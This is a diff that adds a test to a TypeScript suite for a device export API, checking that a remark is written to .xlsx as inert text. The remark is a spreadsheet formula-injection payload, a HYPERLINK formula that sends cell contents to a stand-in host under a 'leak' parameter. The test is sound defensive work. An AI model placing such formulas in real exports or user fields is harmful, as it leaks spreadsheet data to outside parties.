@@ -280,6 +280,30 @@ describe.each(ENGINES)('device import and export (spec §3 import rows, §5.4) o
     expect(empty.worksheets[0]?.rowCount).toBe(1);
   });
 
+  it('exports a remark a spreadsheet would run as a formula as inert text, as the CSV exports do', async () => {
+    const group = await addGroup(t, owner, 10);
+    const [unit] = await addUnits(t, 1);
+    if (!unit) throw new Error('no unit');
+    const remark = '=HYPERLINK("http://example.com/?leak="&A1,"open")';
+    const device = await bind(t, owner, unit, { group_id: group });
+    const edited = await call(t, 'PATCH', DEVICE_PATHS.device(device.id), owner, {
+      name: device.name,
+      remark,
+    });
+    expect(edited.statusCode, edited.body).toBe(200);
+    const wheres = encodeURIComponent(encodeListParam([{ k: 'group_id', o: '=', v: group }]));
+    const response = await t.app.inject({
+      method: 'GET',
+      url: `/webapi${DEVICE_PATHS.export}?wheres=${wheres}`,
+      headers: { ...owner, 'accept-language': 'en' },
+    });
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
+    const row = book.worksheets[0]?.getRow(2);
+    expect(row?.getCell(1).value).toBe(unit.sn);
+    expect(row?.getCell(19).value).toBe(`'${remark}`);
+  });
+
   it('exports the binding records of a filter as .xlsx, newest first', async () => {
     const [unit] = await addUnits(t, 1);
     if (!unit) throw new Error('no unit');
